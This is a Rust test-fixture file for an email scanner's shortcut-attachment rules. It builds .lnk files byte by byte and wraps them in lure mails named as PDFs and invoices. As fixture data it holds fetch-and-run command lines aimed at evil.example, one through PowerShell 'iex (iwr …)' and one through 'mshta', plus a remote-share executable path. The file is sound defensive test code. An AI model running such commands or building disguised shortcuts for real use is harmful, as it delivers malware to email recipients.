//! Fixtures for the ATTACH_LNK_ rules: shortcuts written byte by byte per MS-SHLLINK, and
//! end-to-end checks of shortcuts as the engine sees them.

use super::Fixture;
use super::archives::{mail, zip_of};
use lurescreen::{Config, Engine, Signatures, Verdict};

const LNK_CLSID_HEADER: [u8; 20] = [
    0x4C, 0x00, 0x00, 0x00, 0x01, 0x14, 0x02, 0x00, 0x00, 0x00, 0x00, 0x00, 0xC0, 0x00, 0x00, 0x00,
    0x00, 0x00, 0x00, 0x46,
];

fn utf16(s: &str) -> Vec<u8> {
    s.encode_utf16().flat_map(u16::to_le_bytes).collect()
}

/// A Unicode shortcut: LinkInfo with a local path (when given), then the arguments and the icon
/// location, then `appended` after the terminal block.
pub fn lnk(
    target: Option<&str>,
    args: Option<&str>,
    icon: Option<&str>,
    appended: &[u8],
) -> Vec<u8> {
    let mut flags = 0x80u32; // IsUnicode
    let mut body = Vec::new();
    if let Some(path) = target {
        flags |= 0x2; // HasLinkInfo
        let header = 0x1Cu32;
        let mut tail = Vec::new();
        let volume = header as usize;
        tail.extend(0x11u32.to_le_bytes());
        tail.extend(3u32.to_le_bytes());
        tail.extend(0u32.to_le_bytes());
        tail.extend(0x10u32.to_le_bytes());
        tail.push(0);
        let base = header as usize + tail.len();
        tail.extend(path.as_bytes());
        tail.push(0);
        let suffix = header as usize + tail.len();
        tail.push(0);
        let size = header as usize + tail.len();
        for v in [size, header as usize, 1, volume, base, 0, suffix] {
            body.extend((v as u32).to_le_bytes());
        }
        body.extend(tail);
    }
    for (bit, value) in [(0x20u32, args), (0x40, icon)] {
        if let Some(v) = value {
            flags |= bit;
            body.extend((v.encode_utf16().count() as u16).to_le_bytes());
            body.extend(utf16(v));
        }
    }
    body.extend([0, 0, 0, 0]);
    let mut out = LNK_CLSID_HEADER.to_vec();
    out.extend(flags.to_le_bytes());
    out.extend([0u8; 0x4C - 24]);
    out.extend(body);
    out.extend(appended);
    out
}

const PS: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";

pub fn fixtures() -> Vec<Fixture> {
    let d = Config::default;
    vec![
        (
            "ATTACH_LNK_COMMAND",
            d(),
            mail(
                "資料をお送りします。",
                &[(
                    "資料.pdf.lnk",
                    &lnk(
                        Some(PS),
                        Some("-w hidden -c iex (iwr https://evil.example/a)"),
                        None,
                        b"",
                    ),
                )],
            ),
        ),
        (
            "ATTACH_LNK_DOCUMENT_ICON",
            d(),
            mail(
                "see the scan",
                &[(
                    "scan.lnk",
                    &lnk(
                        Some("C:\\Users\\Public\\scan.exe"),
                        None,
                        Some("C:\\Windows\\System32\\imageres.dll"),
                        b"",
                    ),
                )],
            ),
        ),
        (
            "ATTACH_LNK_REMOTE",
            d(),
            mail(
                "share",
                &[(
                    "share.lnk",
                    &lnk(
                        Some("\\\\files.evil.example\\pub\\doc.exe"),
                        None,
                        None,
                        b"",
                    ),
                )],
            ),
        ),
        (
            "ATTACH_LNK_APPENDED_DATA",
            d(),
            mail(
                "notes",
                &[(
                    "notes.lnk",
                    &lnk(Some("C:\\Windows\\notepad.exe"), None, None, &[0x41; 4096]),
                )],
            ),
        ),
        (
            "ATTACH_LNK_TARGET",
            d(),
            mail(
                "folder",
                &[(
                    "Reports.lnk",
                    &lnk(Some("C:\\Users\\taro\\Documents\\Reports"), None, None, b""),
                )],
            ),
        ),
    ]
}

#[test]
fn a_shortcut_in_a_zip_named_as_a_pdf_is_quarantined_with_its_command() {
    let shortcut = lnk(
        Some("C:\\Windows\\System32\\cmd.exe"),
        Some("/c start /min mshta https://evil.example/x.hta"),
        Some("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"),
        b"",
    );
    let raw = mail(
        "請求書を送ります",
        &[("請求書.zip", &zip_of(&[("請求書.pdf", &shortcut)]))],
    );
    let r = Engine::new(Config::default(), Signatures::embedded().unwrap())
        .scan(&raw)
        .unwrap();
    assert_eq!(r.verdict, Verdict::Quarantine);
    let f = r
        .findings
        .iter()
        .find(|f| f.rule == "ATTACH_LNK_COMMAND")
        .expect("command");
    assert_eq!(f.location, "2/請求書.zip!/請求書.pdf");
    assert!(
        f.reason_en
            .contains("cmd.exe /c start /min mshta https://evil.example/x.hta")
    );
    assert!(
        f.reason_ja.contains("cmd.exe を起動する"),
        "{}",
        f.reason_ja
    );
    for rule in ["ATTACH_LNK_DOCUMENT_ICON", "ATTACH_DISGUISED_EXECUTABLE"] {
        assert!(r.findings.iter().any(|f| f.rule == rule), "{rule}");
    }
}
